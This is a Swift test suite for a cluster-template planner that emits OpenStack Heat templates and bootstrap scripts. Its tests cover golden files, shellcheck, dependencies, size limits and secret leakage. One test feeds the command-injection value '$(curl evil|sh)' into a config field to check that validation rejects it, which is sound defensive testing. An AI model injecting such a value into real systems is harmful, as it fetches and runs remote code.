import Foundation
import Testing
@testable import DiscoCore

/// The built-in catalog composed into whole templates, compared with `Fixtures/templates/*.yaml`.
/// Set `DISCO_UPDATE_GOLDEN=1` to rewrite the golden files after an intended change.
@Suite struct GoldenTemplateTests {
    static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("Fixtures/templates")
    static let shellcheck = ["/usr/bin/shellcheck", "/usr/local/bin/shellcheck"].first { FileManager.default.isExecutableFile(atPath: $0) }

    struct Case: Sendable, CustomStringConvertible {
        var name: String
        var workers: Int
        var components: [String: [String: String]]
        var flavor = "m1.large"
        var description: String { name }
    }

    static let cases: [Case] = [
        Case(name: "bare", workers: 2, components: [:]),
        Case(name: "hadoop", workers: 3, components: ["hadoop": [:]]),
        Case(name: "dashboard-set", workers: 4,
             components: ["spark": [:], "hadoop": [:], "zeppelin": [:], "jupyter": ["password": "correct horse battery"]]),
        Case(name: "kafka-flink", workers: 3, components: ["kafka": [:], "flink": [:]]),
        Case(name: "zero-workers", workers: 0, components: ["spark": [:]]),
        Case(name: "hundred-workers", workers: 100, components: ["storm": [:], "hadoop": [:]]),
    ]

    func plan(_ c: Case) throws -> ClusterPlan {
        let planner = Planner(catalog: try .builtIn())
        var spec = ClusterSpec.make(name: c.name, workers: c.workers, components: c.components, flavor: c.flavor)
        spec.tags = ["golden"]
        var inventory = CloudInventory.standard
        inventory.quota = QuotaHeadroom()
        return try planner.plan(spec, inventory: inventory, context: .fixed)
    }

    @Test("golden template", arguments: cases)
    func golden(_ c: Case) async throws {
        let yaml = try plan(c).template.yaml()
        let file = Self.fixtures.appendingPathComponent("\(c.name).yaml")
        if ProcessInfo.processInfo.environment["DISCO_UPDATE_GOLDEN"] == "1" {
            try FileManager.default.createDirectory(at: Self.fixtures, withIntermediateDirectories: true)
            try yaml.write(to: file, atomically: true, encoding: .utf8)
        }
        let golden = try String(contentsOf: file, encoding: .utf8)
        #expect(yaml == golden, "\(c.name).yaml differs; run with DISCO_UPDATE_GOLDEN=1 and review the diff")
    }

    @Test("every composed script passes shellcheck", arguments: cases)
    func shellcheckClean(_ c: Case) async throws {
        guard let shellcheck = Self.shellcheck else {
            #expect(ProcessInfo.processInfo.environment["CI"] == nil, "shellcheck is required in CI")
            return
        }
        let plan = try plan(c)
        for (role, script) in [("master", plan.masterScript), ("worker", plan.workerScript)] {
            let output = try await runBash("\(shellcheck) -s bash -f gcc - 2>&1; echo \"exit=$?\"", stdin: script)
            #expect(output.hasSuffix("exit=0\n"), "\(c.name) \(role) script:\n\(output.prefix(3000))")
        }
    }

    /// Heat's convergence engine starts the resources that need nothing one second apart; the rest start as soon as what
    /// they need exists. One such resource: nothing waits on that pause.
    @Test("the network is the only resource that needs nothing", arguments: cases)
    func oneResourceStartsTheStack(_ c: Case) throws {
        func references(in value: HOTValue) -> Set<String> {
            switch value {
            case .list(let items):
                return items.reduce(into: []) { $0.formUnion(references(in: $1)) }
            case .object(let pairs):
                return pairs.reduce(into: []) { found, pair in
                    switch (pair.0, pair.1) {
                    case ("get_resource", .string(let name)): found.insert(name)
                    case ("get_attr", .list(let path)): if case .string(let name)? = path.first { found.insert(name) }
                    default: found.formUnion(references(in: pair.1))
                    }
                }
            default:
                return []
            }
        }
        let template = try plan(c).template
        let names = Set(template.resources.map(\.0))
        let independent = template.resources.filter { _, resource in
            let needs = references(in: .object(resource.properties)).union(resource.dependsOn)
            return needs.isDisjoint(with: names)
        }
        #expect(independent.map(\.0) == ["network"])
    }

    @Test func everyScriptFitsNova() throws {
        let all = Case(name: "all", workers: 5, components: ["hadoop": [:], "spark": [:], "jupyter": ["password": "longenough"],
                                                            "kafka": [:], "flink": [:], "zookeeper": [:], "storm": [:]],
                       flavor: "m1.xlarge")
        let plan = try plan(all)
        #expect(plan.masterScript.utf8.count <= UserDataLimit.maxScriptBytes)
        #expect(plan.workerScript.utf8.count <= UserDataLimit.maxScriptBytes)
    }

    @Test func builtInCatalogHasTheRealComponents() throws {
        let catalog = try ComponentCatalog.builtIn()
        #expect(catalog.names == ["base", "flink", "hadoop", "jupyter", "kafka", "spark", "storm", "zeppelin", "zookeeper"])
        #expect(catalog.implicitNames == ["base"])
        for name in catalog.names where name != "base" {
            #expect(catalog[name]?.manifest.readiness != nil, "\(name) has no readiness check")
        }
    }

    @Test func noSecretOrPrivateKeyInTemplates() throws {
        for c in Self.cases {
            let json = try plan(c).template.json()
            #expect(!json.contains("correct horse battery"))
            #expect(!json.contains("-----BEGIN OPENSSH PRIVATE KEY-----\\nuser"))
        }
    }

    @Test func hostileValuesAreRejectedBeforeAnyScript() throws {
        let planner = Planner(catalog: try .builtIn())
        let spec = ClusterSpec.make(components: ["spark": ["executor_memory": "$(curl evil|sh)"]])
        let error = #expect(throws: SpecValidationError.self) { try planner.plan(spec, inventory: .standard, context: .fixed) }
        #expect(error?.problems.map(\.path) == ["components.spark.executor_memory"])
        #expect(error?.problems.first?.found == "$(curl evil|sh)")
    }
}
